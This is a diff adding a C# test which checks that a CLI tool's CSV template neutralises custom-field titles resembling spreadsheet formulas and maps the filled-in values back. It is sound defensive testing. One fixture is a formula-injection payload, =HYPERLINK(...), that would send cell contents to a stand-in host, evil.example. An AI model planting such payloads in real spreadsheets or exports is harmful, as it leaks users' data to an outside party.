@@ -261,6 +261,34 @@ public sealed class CustomFieldHostileTests : IAsyncLifetime
             Encoding.UTF8.GetString(_sandbox.Received.Single(request => request.Route == SandboxRoute.UpdateV2).Body));
     }
 
+    /// <summary>
+    /// Liner's titles are text anyone with admin rights typed. The CSV template writes those that start like a formula
+    /// with a leading ' (what a spreadsheet shows as text and never runs), and the filled-in file maps every column back.
+    /// </summary>
+    [Fact]
+    public async Task A_filled_in_csv_template_of_custom_fields_titled_like_formulas_runs_none_and_maps_back()
+    {
+        const string formulas = """
+            [{"id":301,"title":"=HYPERLINK(\"http://evil.example/?\"&A2,\"Click\")","type":"string","essence":"leads","params":[],"sort":10},
+             {"id":302,"title":"-2+3","type":"int","essence":"leads","params":[],"sort":20},
+             {"id":303,"title":"@SUM(1+1)","type":"select","essence":"leads","params":[{"code":"a","sort":1,"title":"=1+1"},{"code":"b","sort":2,"title":"B"}],"sort":30},
+             {"id":304,"title":"+7 телефон","type":"string","essence":"leads","params":[],"sort":40},
+             {"id":305,"title":"=x","type":"string","essence":"leads","params":[],"sort":50},
+             {"id":306,"title":"'=x","type":"string","essence":"leads","params":[],"sort":60}]
+            """;
+        await using var liner = await StubLiner.StartAsync((_, _) => StubAnswer.Updated, customFields: formulas);
+        var path = Path.Combine(_folder.Path, "template.csv");
+        Assert.Equal(ExitCodes.Success, (await CliRun.RunAsync(_folder, Stub(liner), "template", path)).ExitCode);
+
+        var header = File.ReadAllText(path, Utf8).TrimStart('\uFEFF').TrimEnd('\r', '\n');
+        Assert.EndsWith(""",instagramLogin,"'=HYPERLINK(""http://evil.example/?""&A2,""Click"")",'-2+3,'@SUM(1+1),'+7 телефон,custom:305,''=x""", header);
+        File.AppendAllText(path, "7,,,,,,,,,,,,,,site,5,=1+1,+79001234567,x,'x\r\n", Utf8);
+        var result = await CliRun.RunAsync(_folder, Stub(liner), "run", path);
+
+        Assert.True(result.ExitCode == ExitCodes.Success, result.Out + result.Error + result.LogText);
+        Assert.Equal("""{"customValues":{"301":"site","302":5,"303":"a","304":"+79001234567","305":"x","306":"'x"}}""", liner.UpdateBodies.Single());
+    }
+
     private static Func<string, long, StubAnswer> Detail(string customValues) => (version, id) => StubAnswer.Json(200,
         version == "v2"
             ? $$$"""{"success":true,"message":"","data":{"id":{{{id}}},"name":"Ann","statusId":2,"customValues":{{{customValues}}}}}"""
